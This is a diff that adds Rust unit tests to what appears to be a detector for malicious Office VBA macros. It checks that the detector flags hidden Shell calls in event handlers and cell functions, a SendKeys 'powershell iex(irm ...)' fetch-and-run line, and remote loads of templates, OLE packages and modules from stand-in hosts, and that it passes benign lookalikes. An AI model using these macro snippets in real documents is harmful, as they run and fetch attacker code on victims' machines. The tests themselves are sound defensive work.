@@ -297,3 +297,58 @@ fn tools_that_nothing_starts_and_references() {
     assert!(stops(&refer("Environ(\"TEMP\") & \"\\x.tlb\"")) && stops(&refer("\"http://a.example/x.dotm\"")));
     assert!(stops("ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromFile x"));
 }
+
+#[test]
+fn events_of_the_application_that_come_with_reading() {
+    let stops_at = |event: &str, body: &str| {
+        let class = format!("Public WithEvents a As Application\nPrivate Sub a_{event}\n{body}\nEnd Sub");
+        let document = "Dim k As New K1\nSub Document_Open()\nSet k.a = Application\nEnd Sub";
+        stops_of(&[("ThisDocument", ModuleKind::Document, document), ("K1", ModuleKind::Class, &class)])
+    };
+    let shell = "Shell \"cmd /c x\", 0";
+    assert!(stops_at("WindowSelectionChange(ByVal s As Selection)", shell));
+    assert!(stops_at("SheetSelectionChange(ByVal s As Object, ByVal t As Range)", shell));
+    assert!(stops_at("DocumentBeforeSave(ByVal d As Document, u As Boolean, c As Boolean)", shell));
+    assert!(!stops_at("WindowBeforeDoubleClick(ByVal s As Selection, c As Boolean)", shell));
+    // An add-in for developers, and one that keeps fields up to date.
+    let format = "d.VBProject.VBComponents(1).CodeModule.ReplaceLine 1, t";
+    assert!(!stops_at("WorkbookBeforeSave(ByVal d As Workbook, u As Boolean, c As Boolean)", format));
+    assert!(!stops_at("DocumentBeforePrint(ByVal d As Document, c As Boolean)", "d.Fields.Update"));
+    let copy = format!("Private Sub Workbook_BeforeSave(ByVal u As Boolean, c As Boolean)\n{format}\nEnd Sub");
+    assert!(stops_of(&[("ThisWorkbook", ModuleKind::Document, &copy)]));
+}
+
+#[test]
+fn functions_that_cells_call() {
+    let mut around = Surroundings::default();
+    around.call("Total");
+    let stops_with = |body: &str, around: &Surroundings| {
+        let source = format!("Function Total()\n{body}\nEnd Function");
+        stops_in(around, &[("M", ModuleKind::Standard, &source)])
+    };
+    assert!(stops_with("Shell \"cmd /c x\"", &around));
+    assert!(!stops_with("Shell \"cmd /c x\"", &Surroundings::default()));
+    let rate = "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/\"\nh.Send\nTotal = h.responseText";
+    assert!(!stops_with(rate, &around));
+}
+
+#[test]
+fn what_is_fetched_loaded_or_typed() {
+    let read = "Application.WorksheetFunction.WebService(\"http://a.example/x\")";
+    assert!(stops(&format!("ExecuteExcel4Macro {read}")) && !stops(&format!("Range(\"A1\").Value = {read}")));
+    assert!(stops("GetObject \"soap:wsdl=http://a.example/x\""));
+    assert!(stops("Application.Help \"\\\\203.0.113.9\\s\\x.chm\""));
+    assert!(!stops("Application.Help ThisWorkbook.Path & \"\\x.chm\""));
+    assert!(stops(
+        "ActiveDocument.InlineShapes.AddOLEObject ClassType:=\"Package\", FileName:=\"http://a.example/x.exe\""
+    ));
+    assert!(!stops("ActiveSheet.Shapes.AddOLEObject Filename:=\"http://a.example/x.pdf\", Link:=False"));
+    assert!(stops(
+        "Set a = CreateObject(\"Microsoft.Windows.ActCtx\")\na.Manifest = Environ(\"TEMP\") & \"\\x.manifest\"\na.CreateObject \"x\""
+    ));
+    assert!(!stops(
+        "Set a = CreateObject(\"Microsoft.Windows.ActCtx\")\na.Manifest = ThisWorkbook.Path & \"\\x.manifest\""
+    ));
+    assert!(stops("SendKeys \"powershell iex(irm a.example/x)~\"") && !stops("SendKeys \"cmd~\""));
+    assert!(stops("ThisWorkbook.VBProject.VBComponents.Import \"\\\\198.51.100.9\\s\\x.bas\""));
+}
